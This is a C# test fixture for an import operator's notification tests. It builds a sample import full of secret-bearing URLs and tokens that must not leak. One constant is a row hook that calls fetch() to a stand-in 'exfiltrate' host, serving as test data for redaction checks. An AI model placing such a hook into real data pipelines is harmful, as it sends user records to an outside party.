using ImportOperator.Api.V1Alpha1;
using ImportOperator.Engine.Schema;
using k8s.Models;

namespace ImportOperator.Tests.Notifications;

/// <summary>Imports as the operator holds them when a phase is reached: full of URLs that must not leak.</summary>
public static class SampleImports
{
    public const string Uid = "6f1c2a9e-3b7d-4c8e-9a10-2b3c4d5e6f70";
    public const string UploadUrl = "https://s3.example.com/imports/ns/contacts/input/contacts.csv?X-Amz-Signature=secret-upload";
    public const string ReviewUrl = "https://review.example.com/review/secret-review-token";
    public const string WebhookUrl = "https://hooks.example.com/import-done?token=secret-hook";
    public const string NeedsReviewWebhookUrl = "https://hooks.example.com/needs-review?token=secret-review-hook";
    public const string HookSource = "(record) => { fetch('http://exfiltrate.example.com'); return record; }";

    public static ImportSettings Settings() => new()
    {
        ImportIdentifier = "contacts-import",
        WebhookUrl = WebhookUrl,
        NeedsReviewWebhookUrl = NeedsReviewWebhookUrl,
        DevelopmentMode = true,
    };

    public static HeadlessImport Successful(string uid = Uid) => new()
    {
        Metadata = new V1ObjectMeta { Name = "contacts", NamespaceProperty = "team-a", Uid = uid },
        Spec = new HeadlessImportSpec
        {
            Fields = [new FieldDefinition { Key = "email", Label = "Email" }],
            Settings = Settings(),
            Hooks = new HookDefinitions { RowHooks = [HookSource] },
            OriginalFilename = "contacts.csv",
            User = new ImportUser { Id = "user-123", Name = "Jasmine Clark", Email = "jclark@acme.com" },
        },
        Status = new HeadlessImportStatus
        {
            Phase = ImportPhases.Successful,
            Id = uid,
            OriginalFilename = "contacts.csv",
            Upload = UploadUrl,
            ReviewUrl = ReviewUrl,
            Reason = "Completed",
            Message = "433 rows imported.",
            ResultMetadata = new ResultMetadata { NumDataRows = 433, NumValidRows = 430, NumInvalidRows = 3, NumResultRows = 430 },
            ImportErrors = [new ImportErrorEntry { RowIndex = 4, FieldKey = "email", Message = "Not an e-mail address.", Value = "nope" }],
            Result = new ImportResultLocation { Data = "s3://imports/team-a/contacts/results/data.json", Metadata = "s3://imports/team-a/contacts/results/metadata.json" },
            StartTime = new DateTime(2026, 11, 28, 18, 0, 0, DateTimeKind.Utc),
            CompletionTime = new DateTime(2026, 11, 28, 18, 0, 7, 250, DateTimeKind.Utc),
        },
    };
}
